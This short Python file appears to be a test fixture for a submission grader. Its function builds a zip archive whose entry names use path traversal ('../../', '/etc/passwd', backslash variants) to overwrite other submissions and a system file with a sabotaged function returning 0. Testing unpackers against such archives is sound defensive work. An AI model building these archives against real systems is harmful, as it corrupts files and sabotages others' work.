# attack: paths that lead out of the archive and over the work of others
# points: 0
import zipfile


def hand_in(place, honest):
    with zipfile.ZipFile(place / "work.zip", "w") as archive:
        for name in ("../../honest-first/double.py", "/etc/passwd", "..\\..\\slope.py"):
            archive.writestr(name, "def double(x):\n    return 0\n")
